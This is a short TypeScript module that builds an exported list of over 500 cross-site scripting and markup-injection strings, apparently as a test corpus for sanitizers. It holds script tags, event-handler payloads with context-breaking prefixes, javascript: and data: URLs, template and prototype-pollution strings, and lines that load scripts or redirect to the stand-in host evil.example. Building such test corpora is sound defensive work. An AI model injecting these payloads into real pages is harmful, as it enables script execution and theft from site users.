const TAGS = ['img', 'svg', 'iframe', 'video', 'object', 'embed', 'math', 'body', 'details', 'input'];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerenter',
];
const CLOSERS = ['', '">', "'>", '</bdi></section>', '</textarea>', '--></style>', '<![CDATA['];

const SINGLE = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=preconnect href=https://evil.example>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<form action=https://evil.example><button autofocus>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/join?x=<script>',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '\u202e>tpircs<)1(trela>tpircs/<',
  '{"__proto__":{"isAdmin":true},"props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
];

/** More than 500 texts that run, load or break out wherever a page takes text for markup. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SINGLE,
  ...TAGS.flatMap((tag) =>
    EVENTS.flatMap((event) =>
      CLOSERS.map((closer) => `${closer}<${tag} src=https://evil.example/x ${event}=alert(1) autofocus>`),
    ),
  ),
];
